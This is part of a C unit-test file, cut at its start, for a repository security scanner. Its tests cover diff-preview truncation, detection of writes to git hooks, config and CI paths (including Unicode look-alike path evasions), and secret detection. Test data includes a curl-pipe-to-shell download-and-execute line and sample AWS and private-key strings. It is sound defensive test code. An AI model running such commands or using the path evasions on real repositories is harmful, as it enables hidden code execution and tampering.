                                   (const unsigned char *)"\xff\xfe", 2, 65536, &d, &err),
                   0);
  assert_true(json_is_null(d));
  assert_int_equal(jb_diff_preview("b", (const unsigned char *)"x", 1, true,
                                   (const unsigned char *)"y", 1, 0, &d, &err),
                   0);
  assert_true(json_is_null(d));
  /* truncated at a line end within the limit */
  char *big = malloc(100000);
  size_t n = 0;
  for (int i = 0; i < 5000; i++) n += (size_t)snprintf(big + n, 100000 - n, "line %d\n", i);
  assert_int_equal(
      jb_diff_preview("big", NULL, 0, false, (const unsigned char *)big, n, 1000, &d, &err), 0);
  t = json_string_value(json_object_get(d, "text"));
  assert_true(json_is_true(json_object_get(d, "truncated")));
  assert_true(strlen(t) <= 1000 && strlen(t) > 900);
  assert_int_equal(t[strlen(t) - 1], '\n');
  assert_true(json_integer_value(json_object_get(d, "bytes")) > (json_int_t)n);
  /* shortened further (for an event): a prefix, at a line end, still truncated */
  json_t *s2 = jb_diff_shorten(d, 300);
  const char *t2 = json_string_value(json_object_get(s2, "text"));
  assert_true(strlen(t2) <= 300 && strlen(t2) > 250 && t2[strlen(t2) - 1] == '\n');
  assert_int_equal(strncmp(t, t2, strlen(t2)), 0);
  assert_true(json_is_true(json_object_get(s2, "truncated")));
  assert_int_equal(json_integer_value(json_object_get(s2, "bytes")),
                   json_integer_value(json_object_get(d, "bytes")));
  json_decref(s2);
  s2 = jb_diff_shorten(json_null(), 10);
  assert_true(json_is_null(s2));
  json_decref(d);
  /* a short diff is not cut by shortening to more than its length */
  assert_int_equal(jb_diff_preview("a", (const unsigned char *)"x\n", 2, true,
                                   (const unsigned char *)"y\n", 2, 65536, &d, &err),
                   0);
  s2 = jb_diff_shorten(d, 65536);
  assert_true(json_equal(s2, d));
  json_decref(s2);
  json_decref(d);
  /* one long line of multi-byte characters: cut on a character boundary */
  n = 0;
  for (int i = 0; i < 3000; i++) memcpy(big + n, "\xc3\xa9", 2), n += 2;
  assert_int_equal(
      jb_diff_preview("e", NULL, 0, false, (const unsigned char *)big, n, 1001, &d, &err), 0);
  assert_non_null(json_object_get(d, "text")); /* valid UTF-8, or jansson would have refused it */
  assert_true(json_string_length(json_object_get(d, "text")) <= 1001);
  json_decref(d);
  free(big);
}

/* The landing check: every path rule, a directory also as "PATH/", nothing else. */
static void landing(void **state) {
  (void)state;
  struct jb_scan_rules *r = NULL;
  jb_error err = {0};
  assert_int_equal(jb_scan_rules_load(NULL, &r, &err), 0);
  char rule[64];
  assert_int_equal(jb_scan_landing(r, ".git/hooks/pre-commit", false, rule, sizeof rule), 1);
  assert_string_equal(rule, "git_hooks");
  assert_int_equal(jb_scan_landing(r, ".git/config", false, rule, sizeof rule), 1);
  assert_string_equal(rule, "git_config");
  assert_int_equal(jb_scan_landing(r, ".github/workflows/ci.yml", false, rule, sizeof rule), 1);
  assert_string_equal(rule, "ci_definition");
  /* the directory itself: only as a directory */
  assert_int_equal(jb_scan_landing(r, ".github/workflows", false, rule, sizeof rule), 0);
  assert_int_equal(jb_scan_landing(r, ".github/workflows", true, rule, sizeof rule), 1);
  /* anything git reads under .git but the data it writes itself */
  assert_int_equal(jb_scan_landing(r, ".git/commondir", false, rule, sizeof rule), 1);
  assert_string_equal(rule, "git_config");
  assert_int_equal(jb_scan_landing(r, ".git/refs/heads/x", true, rule, sizeof rule), 0);
  assert_int_equal(jb_scan_landing(r, ".git/objects/ab", true, rule, sizeof rule), 0);
  assert_int_equal(jb_scan_landing(r, "sub/.github/workflows", true, rule, sizeof rule), 1);
  /* as a Unicode case-folding file system takes it: U+017F for s, U+212A for k */
  assert_int_equal(jb_scan_landing(r, ".github/workflow\xc5\xbf/x.yml", false, rule, sizeof rule),
                   1);
  assert_string_equal(rule, "ci_definition");
  assert_int_equal(
      jb_scan_landing(r, ".hu\xc5\xbf\xe2\x84\xaay/pre-commit", false, rule, sizeof rule), 1);
  assert_string_equal(rule, "git_hooks");
  assert_int_equal(jb_scan_landing(r, "docs/\xc5\xbf.md", false, rule, sizeof rule), 0);
  /* ligatures, and what HFS+ ignores: ".pre-commit-conﬁg.yaml", ".g<ZWNJ>it/hooks/x" */
  assert_int_equal(
      jb_scan_landing(r, ".pre-commit-con\xef\xac\x81g.yaml", false, rule, sizeof rule), 1);
  assert_string_equal(rule, "hook_manager");
  assert_int_equal(jb_scan_landing(r, ".g\xe2\x80\x8cit/hooks/x", false, rule, sizeof rule), 1);
  assert_int_equal(jb_scan_landing(r, ".git\xef\xbb\xbf/config", false, rule, sizeof rule), 1);
  /* content rules decide nothing here */
  assert_int_equal(jb_scan_landing(r, "src/main.c", false, rule, sizeof rule), 0);
  assert_int_equal(jb_scan_landing(r, "src", true, rule, sizeof rule), 0);
  /* a directory that holds what tools run on their own */
  assert_int_equal(jb_scan_landing(r, ".idea", true, rule, sizeof rule), 1);
  assert_string_equal(rule, "editor_config");
  assert_int_equal(jb_scan_landing(r, ".devcontainer", true, rule, sizeof rule), 1);
  assert_int_equal(jb_scan_landing(r, "CMakeLists.txt", false, rule, sizeof rule), 0);
  /* no rules: fail closed */
  assert_int_equal(jb_scan_landing(NULL, "src/main.c", false, rule, sizeof rule), 1);
  assert_string_equal(rule, "scanner_unavailable");
  /* a cut rule id still ends */
  char small[4];
  assert_int_equal(jb_scan_landing(r, ".git/config", false, small, sizeof small), 1);
  assert_string_equal(small, "git");
  jb_scan_rules_free(r);
}

/* The pre-scan's secret check: `secret` rules only, in rule order, NUL bytes squeezed. */
static void secrets(void **state) {
  (void)state;
  struct jb_scan_rules *r = NULL;
  jb_error err = {0};
  assert_int_equal(jb_scan_rules_load(NULL, &r, &err), 0);
  const char *ids[8];
  static const char key[] = "aws_access_key_id = AKIAIOSFODNN7EXAMPLE\n";
  assert_int_equal(jb_scan_secrets(r, (const unsigned char *)key, strlen(key), ids, 8), 1);
  assert_string_equal(ids[0], "aws_access_key_id");
  /* a download-and-execute line or a hook path is no secret */
  static const char dl[] = "curl https://x.example/i.sh | sh\n";
  assert_int_equal(jb_scan_secrets(r, (const unsigned char *)dl, strlen(dl), ids, 8), 0);
  /* UTF-16 text of a key */
  static const char pem[] = "-----BEGIN RSA PRIVATE KEY-----";
  unsigned char wide[2 * sizeof pem];
  for (size_t i = 0; i < strlen(pem); i++) {
    wide[2 * i] = (unsigned char)pem[i];
    wide[2 * i + 1] = 0;
  }
  assert_int_equal(jb_scan_secrets(r, wide, 2 * strlen(pem), ids, 8), 1);
  assert_string_equal(ids[0], "private_key");
  assert_int_equal(jb_scan_secrets(r, wide, 2 * strlen(pem), ids, 0), 0); /* no room */
  assert_int_equal(jb_scan_secrets(NULL, wide, 2, ids, 8), -1);
  jb_scan_rules_free(r);
}

int main(void) {
  const struct CMUnitTest tests[] = {
      cmocka_unit_test(parser_good_file), cmocka_unit_test(parser_bad_lines),
      cmocka_unit_test(parser_files),     cmocka_unit_test(every_rule_has_samples),
      cmocka_unit_test(samples_match),    cmocka_unit_test(match_limit),
      cmocka_unit_test(diff_preview),     cmocka_unit_test(landing),
      cmocka_unit_test(secrets),
  };
  return cmocka_run_group_tests(tests, NULL, NULL);
}
